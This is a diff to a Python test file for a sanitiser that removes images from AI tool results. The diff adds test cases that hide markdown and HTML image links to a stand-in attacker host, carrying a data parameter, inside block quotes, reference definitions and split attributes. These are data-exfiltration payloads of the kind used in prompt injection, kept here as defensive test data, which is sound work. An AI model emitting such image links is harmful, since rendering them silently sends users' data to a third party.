@@ -16,7 +16,7 @@ from html.parser import HTMLParser
 from urllib.parse import urljoin, urlsplit
 
 import pytest
-from hypothesis import example, given, settings
+from hypothesis import example, given, reject, settings
 from hypothesis import strategies as st
 
 from bastion.guard import Sanitiser
@@ -61,11 +61,19 @@ def _html_urls(html: str) -> list[str]:
     return parser.urls
 
 
+class RendererFailed(Exception):
+    """The oracle renderer itself failed on the text (no verdict)."""
+
+
 def fetched_hosts(text: str) -> set[str]:
     """The hosts a browser would fetch images from, rendering ``text``."""
     md = markdown_it.MarkdownIt("commonmark", {"html": True})
     urls: list[str] = []
-    for token in md.parse(text):
+    try:
+        tokens = md.parse(text)
+    except IndexError as exc:  # markdown-it-py 4.3 on some HTML blocks in lists
+        raise RendererFailed from exc
+    for token in tokens:
         if token.type == "html_block":
             urls += _html_urls(token.content)
         for child in token.children or ():
@@ -95,6 +103,35 @@ def test_the_oracle_sees_the_attacks_TC4() -> None:
         assert EVIL in fetched_hosts(text), text
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"> ![a](\n> https://{EVIL}/p.png?d=1)",
+        f"> ![a][ref]\n>\n> [ref]: https://{EVIL}/p.png?d=1",
+        f"> ![a][ref]\n>\n> [ref]:\n> https://{EVIL}/p.png?d=1",
+        f"- [ref]: https://{EVIL}/p.png?d=1\n\n![a][ref]",
+        f'> a <img src=\n> "https://{EVIL}/p.png?d=1">',
+        f'> a <img src="ht\n> tps://{EVIL}/p.png?d=1">',
+        f'> a <img\n> src="https://{EVIL}/p.png?d=1">',
+    ],
+)
+def test_block_quoted_images_are_read_as_the_renderer_reads_them_TC4(text: str) -> None:
+    """A renderer strips "> " before reading a quoted line on: a destination, a definition
+    or an attribute continued on the next quoted line is still the image's."""
+    assert EVIL in fetched_hosts(text)
+    out = Sanitiser().tool_result({"content": [{"type": "text", "text": text}]})
+    assert EVIL not in fetched_hosts(out.value["content"][0]["text"])
+
+
+def test_a_definition_line_inside_a_paragraph_does_not_hide_the_real_one_TC4() -> None:
+    """The first ``[r]:`` line continues the paragraph (no definition can interrupt one), so
+    the renderer takes the second, the attacker's."""
+    text = f"Intro\n[r]: https://ok.example/logo.png\n\n[r]: //{EVIL}/?d=1\n\n![x][r]"
+    assert EVIL in fetched_hosts(text)
+    out = Sanitiser().tool_result({"content": [{"type": "text", "text": text}]})
+    assert out.value["content"][0]["text"].endswith(f"[image removed: {EVIL}; alt: x]")
+
+
 @settings(max_examples=400, deadline=None)
 @given(st.lists(st.sampled_from(PIECES), max_size=24).map("".join))
 @example(f"![a <http://x/]> b](https://{EVIL}/p.png?d=1)")
@@ -103,7 +140,11 @@ def test_the_oracle_sees_the_attacks_TC4() -> None:
 def test_nothing_rendered_fetches_from_the_attacker_TC4(text: str) -> None:
     out = Sanitiser().tool_result({"content": [{"type": "text", "text": text}]})
     shown = out.value["content"][0]["text"]
-    assert EVIL not in fetched_hosts(shown)
+    try:
+        hosts = fetched_hosts(shown)
+    except RendererFailed:
+        reject()
+    assert EVIL not in hosts
 
 
 HOSTILE = {
